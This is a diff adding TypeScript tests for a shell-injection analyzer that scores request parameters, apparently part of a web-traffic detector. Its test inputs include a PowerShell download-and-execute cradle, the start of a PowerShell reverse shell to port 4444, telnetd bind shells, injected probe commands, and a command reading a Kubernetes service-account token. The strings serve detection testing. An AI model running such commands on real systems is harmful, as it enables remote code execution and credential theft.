@@ -515,3 +515,54 @@ describe("shell analyzer: round s22's fixes", () => {
     for (const v of [`powershell -nop -w hidden -enc ${enc}`, `powershell -nop -EncodedCommand ${enc}`, "python3 -u -c 'import os'"]) expect([v, s(v)]).toEqual([v, 0.85]);
   });
 });
+
+describe("shell analyzer: PowerShell sent in base64", () => {
+  const ps = (text: string, path: string) => Math.max(0, ...shellAnalyzer.analyze({ text, location: "query", path, name: "q", kind: "value" }).filter((f) => f.rule === "shell.powershell").map((f) => f.strength));
+  const cradle = "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')";
+  const socket = "$client = New-Object System.Net.Sockets.TCPClient('10.0.0.1',4444);$stream = $client.GetStream()";
+
+  test("a base64 reading is a script sent to be run, read from its start", () => {
+    for (const path of ["query.q~base64", "query.q~base64#2"]) for (const v of [cradle, socket]) expect([path, v, ps(v, path)]).toEqual([path, v, 0.9]);
+    // The same text as the value itself is a script quoted; a reading of a reading of base64 is not base64.
+    for (const path of ["query.q", "query.q~base64~json.cmd"]) expect([path, ps(cradle, path)]).toEqual([path, 0]);
+  });
+
+  test("a runner given code after a separator", () => {
+    expect(ps(`; ${cradle}`, "query.q")).toBe(0.9);
+    expect(ps("; iex is an alias", "query.q")).toBe(0);
+  });
+});
+
+describe("shell analyzer: round s23's fixes", () => {
+  test("a probe command as the whole value of a parameter named for a command", () => {
+    const named = (text: string, name: string) => strength(shellAnalyzer, text, { name, path: `query.${name}` });
+    for (const [v, name] of [["id", "cmd"], ["whoami /all", "command"], [" hostname -I", "exec"]] as const) expect([v, name, named(v, name)]).toEqual([v, name, 0.85]);
+    // A file manager's own verbs; the same word under another name.
+    for (const [v, name] of [["ls", "cmd"], ["chmod", "cmd"], ["open", "cmd"], ["id", "q"], ["whoami", "user"], ["id desc", "cmd"], ["id desc", "run"]] as const) expect([v, name, named(v, name)]).toEqual([v, name, 0]);
+  });
+
+  test("a device's shell daemon and a program dropped in the working directory, run after a separator", () => {
+    for (const v of ["`telnetd -p 4444 -l /bin/sh`", ";telnetd -l /bin/sh -p 9999", "1;./mips -x", "`./x`"]) expect([v, s(v) >= 0.85]).toEqual([v, true]);
+    expect(s(";./mips")).toBe(0.8);
+    // A program of one's own is a word a shell line in docs runs too; a dot file and a relative link are none.
+    expect(s("chmod 755 script.sh && ./script.sh")).toBeLessThan(0.8);
+    for (const v of ["see ./docs/readme.md", "x; ./.hidden"]) expect([v, s(v)]).toEqual([v, 0]);
+  });
+});
+
+describe("shell analyzer: a cluster's secrets", () => {
+  test("a command that reads a pod's service-account token", () => {
+    expect(s("cat /var/run/secrets/kubernetes.io/serviceaccount/token")).toBe(0.9);
+    // A help post that names the file in a sentence, and another folder under /var/run.
+    for (const v of ["cat /var/run/secrets/kubernetes.io/serviceaccount/token returns permission denied", "ls /var/run/postgresql"]) expect([v, s(v) < 0.85]).toEqual([v, true]);
+  });
+});
+
+describe("shell analyzer: a quoted word on a line of its own", () => {
+  test("is a list's item (a Go import block, pretty-printed JSON), not a command spelled to dodge a filter", () => {
+    for (const v of ['import (\n\t"time"\n)', '[\n  "date",\n  "time"\n]']) expect([v, s(v) < 0.8]).toEqual([v, true]);
+    // After an operator it is the trick it always was; a tool's name stays strong on any line.
+    expect(s(';"id"')).toBe(0.9);
+    expect(s('x\n"whoami"')).toBe(0.9);
+  });
+});
